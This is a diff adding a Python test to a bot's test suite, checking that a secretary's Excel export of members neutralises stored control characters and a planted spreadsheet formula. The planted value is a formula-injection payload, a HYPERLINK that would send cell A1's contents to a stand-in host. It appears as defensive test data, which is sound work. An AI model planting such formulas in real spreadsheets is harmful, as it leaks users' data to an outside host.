@@ -3,15 +3,18 @@
 from __future__ import annotations
 
 import asyncio
+import io
 import threading
 from datetime import date
+
+from openpyxl import load_workbook
 
 from botapi_emulator import BotApiEmulator
 from storage.meetings import MeetingFields
 from usecases import meetings as meetings_uc
 from usecases import roster_io
 
-from ..usecases.test_hostile_input import header_row, inline, xlsx
+from ..usecases.test_hostile_input import header_row, inline, plant, xlsx
 from ..usecases.test_meeting_support import org_id
 from .conftest import World
 
@@ -105,3 +108,22 @@ async def test_a_record_longer_than_a_message_is_split_never_cut(emu: BotApiEmul
     assert "Chi bộ tự đánh giá: Tốt" in whole
     assert contents.splitlines()[-1] in whole
     assert rest.buttons and not first.buttons  # the buttons stay under the end
+
+
+# -- exports -------------------------------------------------------------------------------------
+
+
+async def test_the_secretarys_export_survives_stored_control_characters_and_formulas(
+    emu: BotApiEmulator, world: World
+):
+    lan = await world.secretary(1001, "C1")
+    c1 = await org_id(world.ctx, "C1")
+    await plant(world.ctx, c1, "Nguyễn\x1b Văn An", '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")')
+    await lan.send("/members")
+    listing = await lan.next_reply()
+    await lan.press(listing, "Xuất ra Excel")
+    doc = await lan.next_document()
+    assert doc.data is not None
+    ws = load_workbook(io.BytesIO(doc.data)).active
+    names = {row[0].value: row[0].data_type for row in ws.iter_rows(min_row=2)}
+    assert names == {"Nguyễn Văn An": "s", '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")': "s"}
